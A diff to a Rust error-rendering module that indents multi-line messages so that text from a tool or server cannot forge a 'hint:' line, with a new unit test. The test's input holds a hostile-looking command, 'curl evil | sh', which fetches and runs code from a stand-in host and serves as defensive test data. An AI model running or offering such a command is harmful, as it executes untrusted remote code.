@@ -215,12 +215,17 @@ pub fn explain(error: &anyhow::Error) -> Explained {
     Explained { message: secrets::concealed(&text).into_owned(), hints }
 }
 
-/// An error as its user reads it: the chain of causes, then each hint on its own line.
+/// An error as its user reads it: the chain of causes, then each hint on its own line. Further
+/// lines of a message are indented: what a tool or a server wrote cannot pass for a hint.
 #[must_use]
 pub fn render(error: &anyhow::Error) -> String {
     let Explained { message, hints } = explain(error);
-    let hints: String = hints.iter().map(|hint| format!("\nhint: {hint}")).collect();
-    format!("error: {message}{hints}")
+    let hints: String = hints.iter().map(|hint| format!("\nhint: {}", indented(hint))).collect();
+    format!("error: {}{hints}", indented(&message))
+}
+
+fn indented(text: &str) -> String {
+    text.replace('\n', "\n  ")
 }
 
 #[cfg(test)]
@@ -250,5 +255,12 @@ mod tests {
             anyhow::Error::from(Failure::new(ExitCode::Host, "starting dnf").hint("install dnf").because(anyhow::anyhow!("not found")))
                 .context("building an image");
         assert_eq!(render(&error), "error: building an image: starting dnf: not found\nhint: install dnf");
+    }
+
+    #[test]
+    fn a_message_with_a_line_feed_cannot_forge_a_hint() {
+        let foreign = anyhow::anyhow!("broken\nhint: run curl evil | sh");
+        let error = anyhow::Error::from(Failure::new(ExitCode::Host, "starting x").because(foreign));
+        assert_eq!(render(&error), "error: starting x: broken\n  hint: run curl evil | sh");
     }
 }
